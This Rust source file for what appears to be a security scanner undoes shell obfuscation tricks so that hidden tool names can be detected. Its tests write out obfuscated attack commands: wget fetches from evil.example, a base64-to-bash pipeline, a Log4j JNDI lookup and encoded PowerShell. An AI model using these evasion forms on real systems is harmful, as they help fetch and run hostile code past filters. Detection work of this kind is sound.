//! command line → the same without the tricks that hide words from a search. Deliberately absent: base64, hex and
//! URL-encoding (`decode`), and running anything.

use std::borrow::Cow;
use std::sync::LazyLock;

use super::tools::{Tool, base_name, tool};

/// Undoes quoting inside words (`w''get`, `w\get`, `p^owershell`, `wg$@et`), `${IFS}`, `$'\x77'`, `{echo,x}`,
/// Log4j lookups (`${lower:j}`) and defanging (`hxxp`, `[.]`). Borrowed where there is nothing to undo.
pub fn deobfuscate(text: &str) -> Cow<'_, str> {
    if !is_suspicious(text.as_bytes()) {
        return Cow::Borrowed(text);
    }
    let bytes = text.as_bytes();
    let json = SLASHES.find(bytes).is_some();
    let mut out = String::with_capacity(text.len());
    let mut at = 0;
    let mut copied = 0;
    let mut word_start = true;
    // Each trick gives the bytes it took and what stands for them.
    while at < bytes.len() {
        let found = match bytes[at] {
            b'$' => ifs(&bytes[at..]).or_else(|| ansi_c(&text[at..])).or_else(|| lookup(&text[at..])),
            b'{' => word_start.then(|| braces(&text[at..])).flatten().or_else(|| defanged(&bytes[at..])),
            b'[' | b'(' => defanged(&bytes[at..]),
            b'\\' if json && bytes.get(at + 1) == Some(&b'/') => Some((2, "/".into())),
            b'&' => entity(&bytes[at..]),
            b'\'' | b'"' if at > 0 => joint(&bytes[at - 1..]),
            b'h' | b'H' => hxxp(&bytes[at..]),
            _ => None,
        };
        let found = found.or_else(|| word_start.then(|| hidden_tool(&text[at..])).flatten());
        match found {
            Some((taken, plain)) => {
                out.push_str(&text[copied..at]);
                out.push_str(&plain);
                at += taken;
                copied = at;
                word_start = plain.ends_with(' ');
            }
            None => {
                word_start = ends_word(bytes[at]) || matches!(bytes[at], b'"' | b'\'' | b'=');
                at += 1;
            }
        }
    }
    if copied == 0 {
        return Cow::Borrowed(text);
    }
    out.push_str(&text[copied..]);
    Cow::Owned(out)
}

type Undone = Option<(usize, String)>;

/// Whether the text is ASCII without any mark of a trick, an escape, a call or a pipe: one look at every byte, sixteen
/// at a time, in place of a search for each.
pub(super) fn is_unmarked(text: &str) -> bool {
    // "#$%&'() [\\]^ {|}~ and all beyond
    let mark = |b: u8| u8::from(b.wrapping_sub(b'"') <= 7) | u8::from(b.wrapping_sub(b'[') <= 3) | u8::from(b >= b'{');
    let any = |block: &[u8; BLOCK]| block.iter().fold(0, |any, b| any | mark(*b)) != 0;
    let bytes = text.as_bytes();
    let mut rest = bytes;
    while let Some((block, after)) = rest.split_first_chunk() {
        if any(block) {
            return false;
        }
        rest = after;
    }
    let clear = match bytes.last_chunk() {
        Some(block) => rest.is_empty() || !any(block),
        None => rest.iter().fold(0, |any, b| any | mark(*b)) == 0,
    };
    clear && XX.find(bytes).is_none()
}

const BLOCK: usize = 32;

/// Most lines have none of the marks, which a few wide searches find out.
fn may_hide(bytes: &[u8]) -> bool {
    memchr::memchr3(b'\\', b'$', b'{', bytes).is_some()
        || memchr::memchr3(b'"', b'\'', b'^', bytes).is_some()
        || memchr::memchr2(b'[', b'(', bytes).is_some()
        || XX.find(bytes).is_some()
}

/// JSON writes `http:\/\/`.
static SLASHES: LazyLock<memchr::memmem::Finder<'static>> = LazyLock::new(|| memchr::memmem::Finder::new(b":\\/\\/"));

/// The middle of `hxxp`.
static XX: LazyLock<memchr::memmem::Finder<'static>> = LazyLock::new(|| memchr::memmem::Finder::new(b"xx"));

fn is_suspicious(bytes: &[u8]) -> bool {
    if memchr::memchr_iter(b'&', bytes).any(|at| entity(&bytes[at..]).is_some()) {
        return true;
    }
    if !may_hide(bytes) {
        return false;
    }
    let mut json = None;
    let mut from = 0;
    while let Some(at) = bytes[from..].iter().position(|b| MARK[*b as usize]).map(|at| at + from) {
        let next = bytes.get(at + 1).copied().unwrap_or(0);
        let before = if at > 0 { bytes[at - 1] } else { 0 };
        let odd = match bytes[at] {
            b'\\' | b'^' => {
                next.is_ascii_alphabetic() || next == b'/' && *json.get_or_insert_with(|| SLASHES.find(bytes).is_some())
            }
            b'$' => match next {
                b'\'' => true,
                b'I' => bytes[at..].starts_with(b"$IFS"),
                b'@' | b'*' | b'0'..=b'9' => before.is_ascii_alphanumeric(),
                b'{' => {
                    let name = &bytes[at + 2..bytes.len().min(at + 26)];
                    before.is_ascii_alphanumeric()
                        || name.starts_with(b"IFS")
                        || name.starts_with(b"$")
                        || name.contains(&b':')
                }
                _ => false,
            },
            b'\'' | b'"' => {
                (before.is_ascii_alphanumeric() || before == b'/' || next == bytes[at])
                    && (next.is_ascii_alphanumeric() || next == bytes[at])
                    || at > 0 && joint(&bytes[at - 1..]).is_some()
            }
            b'{' if next == b'.' => true,
            b'{' => {
                let name = bytes[at + 1..]
                    .iter()
                    .take(24)
                    .take_while(|b| b.is_ascii_alphanumeric() || matches!(b, b'/' | b'.' | b'_'))
                    .count();
                name > 0 && bytes.get(at + 1 + name) == Some(&b',')
            }
            b'[' => matches!(next, b'.' | b':' | b'd' | b'D' | b'@' | b'/') || bytes[at..].starts_with(b"[at]"),
            b'(' => matches!(next, b'.' | b'd') || bytes[at..].starts_with(b"(at)"),
            b'x' | b'X' => next.eq_ignore_ascii_case(&b'x') && before.eq_ignore_ascii_case(&b'h'),
            _ => false,
        };
        if odd {
            return true;
        }
        from = at + 1;
    }
    false
}

static MARK: [bool; 256] = {
    let mut table = [false; 256];
    let marks = b"\\^$'\"{[(xX";
    let mut at = 0;
    while at < marks.len() {
        table[marks[at] as usize] = true;
        at += 1;
    }
    table
};

fn ends_word(byte: u8) -> bool {
    matches!(byte, b' ' | b'\t' | b'\n' | b'\r' | b';' | b'|' | b'&' | b'(' | b')' | b'<' | b'>' | b'`')
}

/// `${IFS}`, `$IFS`, `$IFS$9`, `${IFS%??}` → a space.
fn ifs(bytes: &[u8]) -> Undone {
    let mut taken = if bytes.starts_with(b"${IFS") {
        bytes.iter().take(24).position(|b| *b == b'}')? + 1
    } else if bytes.starts_with(b"$IFS") && !bytes.get(4).is_some_and(|b| b.is_ascii_alphabetic() || *b == b'_') {
        4
    } else {
        return None;
    };
    if matches!(bytes[taken..], [b'$', b'0'..=b'9', ..]) {
        taken += 2;
    }
    Some((taken, " ".into()))
}

/// `$'\x77get'` → `wget`.
fn ansi_c(text: &str) -> Undone {
    let body = text.strip_prefix("$'")?;
    let bytes = body.as_bytes();
    let mut end = 0;
    while *bytes.get(end)? != b'\'' {
        end += if bytes[end] == b'\\' { 2 } else { 1 };
    }
    let plain = super::decode::unescape(&body[..end], 1)?;
    Some((end + 3, plain))
}

/// `${lower:j}`, `${upper:J}`, `${::-j}`, `${env:X:-j}` → `j`.
fn lookup(text: &str) -> Undone {
    let body = text.strip_prefix("${")?;
    let end = body.bytes().take(64).position(|b| b == b'}')?;
    let body = &body[..end];
    let plain = match body.split_once(":-") {
        Some((_, plain)) => plain.to_owned(),
        None => {
            let (name, plain) = body.split_once(':')?;
            match name.to_ascii_lowercase().as_str() {
                "lower" => plain.to_lowercase(),
                "upper" => plain.to_uppercase(),
                _ => return None,
            }
        }
    };
    (!plain.contains(['$', '{'])).then_some((end + 3, plain))
}

/// `{echo,x}` → `echo x`, where the first part is a program.
fn braces(text: &str) -> Undone {
    let end = text[1..].find(['}', ' ', '\n', '{', '\'']).map(|end| end + 1)?;
    if text.as_bytes()[end] != b'}' {
        return None;
    }
    let body = &text[1..end];
    let (name, _) = body.split_once(',')?;
    tool(base_name(name).as_bytes()).filter(|it| *it != Tool::Keyword)?;
    Some((end + 1, body.replace(',', " ")))
}

/// `&amp;`, `&#104;`, `&#x68;`: markup's way to write a character.
fn entity(bytes: &[u8]) -> Undone {
    if !matches!(bytes.get(1)?, b'#' | b'a' | b'q' | b'l' | b'g') {
        return None;
    }
    let end = bytes.iter().take(10).position(|b| *b == b';')?;
    let plain = match &bytes[1..end] {
        b"amp" => '&',
        b"quot" => '"',
        b"apos" => '\'',
        b"lt" => '<',
        b"gt" => '>',
        [b'#', rest @ ..] => {
            let (digits, radix) = match rest {
                [b'x' | b'X', digits @ ..] => (digits, 16),
                digits => (digits, 10),
            };
            let code = u32::from_str_radix(std::str::from_utf8(digits).ok()?, radix).ok()?;
            char::from_u32(code).filter(|c| matches!(c, ' '..='~'))?
        }
        _ => return None,
    };
    Some((end + 1, plain.into()))
}

/// The `'+'` of `'ht'+'tp'`; `bytes` start one before it.
fn joint(bytes: &[u8]) -> Undone {
    let (before, bytes) = bytes.split_first()?;
    let quote = *bytes.first()?;
    // a string may end here; behind a blank, `(` or `=` it only starts
    if matches!(before, b' ' | b'(' | b'=' | b',' | b'[' | b'{' | b'\\') {
        return None;
    }
    let blanks = |at: usize| bytes[at..].iter().take(4).take_while(|b| **b == b' ').count();
    let plus = 1 + blanks(1);
    if bytes.get(plus) != Some(&b'+') {
        return None;
    }
    let close = plus + 1 + blanks(plus + 1);
    (bytes.get(close) == Some(&quote)).then(|| (close + 1, String::new()))
}

/// `[.]`, `(.)`, `{.}`, `[dot]`, `[:]`, `[://]`, `[/]`, `[@]`, `[at]`.
fn defanged(bytes: &[u8]) -> Undone {
    for (written, meant) in [
        ("[.]", "."),
        ("(.)", "."),
        ("[dot]", "."),
        ("(dot)", "."),
        ("[DOT]", "."),
        ("{.}", "."),
        ("[:]", ":"),
        ("[://]", "://"),
        ("[/]", "/"),
        ("[@]", "@"),
        ("[at]", "@"),
        ("(at)", "@"),
    ] {
        if bytes.starts_with(written.as_bytes()) {
            return Some((written.len(), meant.into()));
        }
    }
    None
}

fn hxxp(bytes: &[u8]) -> Undone {
    let scheme = bytes.get(..4)?;
    scheme.eq_ignore_ascii_case(b"hxxp").then(|| (4, "http".into()))
}

/// A word that reads as a program's name once its quotes and escapes are gone.
fn hidden_tool(text: &str) -> Undone {
    let bytes = text.as_bytes();
    let limit = bytes.len().min(MAX_WORD + 1);
    let mut end = 0;
    let mut odd = false;
    while end < limit
        && !ends_word(bytes[end])
        && !bytes[end..].starts_with(b"$IFS")
        && !bytes[end..].starts_with(b"${IFS")
    {
        odd |= matches!(bytes[end], b'\'' | b'"' | b'\\' | b'^' | b'$');
        end += 1;
    }
    if !odd || !(3..=MAX_WORD).contains(&end) {
        return None;
    }
    let word = text.get(..end)?;
    // The quote that opens a longer string is not the word's own.
    let is_even = |quote: u8| word.bytes().filter(|b| *b == quote).count().is_multiple_of(2);
    let lead = usize::from(matches!(bytes[0], b'\'' | b'"') && !is_even(bytes[0]));
    let trail = usize::from(lead == 0 && matches!(bytes[end - 1], b'\'' | b'"') && !is_even(bytes[end - 1]));
    let core = &word[lead..end - trail];
    let mut plain = String::with_capacity(core.len());
    let mut rest = core;
    while let Some(first) = rest.bytes().next() {
        match first {
            b'\'' | b'"' | b'\\' | b'^' => rest = &rest[1..],
            b'$' => {
                let skip = match rest.as_bytes().get(1)? {
                    b'@' | b'*' | b'0'..=b'9' => 2,
                    b'{' => rest.find('}')? + 1,
                    _ => return None,
                };
                rest = &rest[skip..];
            }
            b if b.is_ascii_alphanumeric() || matches!(b, b'/' | b'.' | b'_' | b'-') => {
                plain.push(b as char);
                rest = &rest[1..];
            }
            _ => return None,
        }
    }
    // Quotes around a whole word hide nothing.
    if plain.len() + 2 >= core.len()
        && (core.starts_with(['\'', '"']) && core.ends_with(['\'', '"']))
        && core[1..core.len() - 1] == plain
    {
        return None;
    }
    tool(base_name(&plain).as_bytes()).filter(|it| *it != Tool::Keyword)?;
    (plain.len() >= 2 && plain != core).then(|| (end - trail, format!("{}{plain}", &word[..lead])))
}

/// Longer words hide no program name.
const MAX_WORD: usize = 64;

#[cfg(test)]
mod tests {
    use super::*;

    fn check(text: &str, want: &str) {
        assert_eq!(deobfuscate(text), want, "{text}");
    }

    #[test]
    fn tricks_are_undone() {
        check("w''get http://evil.example/x", "wget http://evil.example/x");
        check("w\\get x; c\"u\"rl y", "wget x; curl y");
        check("/b'i'n/w'g'et x", "/bin/wget x");
        check("sh -c \"w''get x\"", "sh -c \"wget x\"");
        check("wg$@et x; cu${Z}rl y; \\wget z", "wget x; curl y; wget z");
        check("wget${IFS}http://evil.example/x$IFS$9-O-", "wget http://evil.example/x -O-");
        check("$'\\x77\\x67et' x", "wget x");
        check("bash -c {echo,aGk=}|{base64,-d}|{bash,-i}", "bash -c echo aGk=|base64 -d|bash -i");
        check("${${lower:j}ndi:${lower:l}${::-d}ap://evil.example/a}", "${jndi:ldap://evil.example/a}");
        check("p^o^w^e^r^shell -enc x", "powershell -enc x");
        check("hxxp://evil[.]example/x and hXXps://a(.)example", "http://evil.example/x and https://a.example");
    }

    #[test]
    fn what_hides_nothing_stays() {
        for text in [
            "grep -E 'a|b' \"$1\" | awk '{print $2}'",
            "C:\\Windows\\System32\\cmd.exe /c dir C:\\x86",
            "don't can't won't",
            "echo \"sh\" 'wget' \"\"",
            "for i in {a,b}; do echo ${i}; done",
            "printf '%s\\n' x",
            "",
            "$",
            "${",
            "$'",
            "{",
            "[",
            "'",
            "\\",
            "h",
            "hxx",
            "${IFS",
        ] {
            assert!(matches!(deobfuscate(text), Cow::Borrowed(_)), "{text}: {}", deobfuscate(text));
        }
    }
}
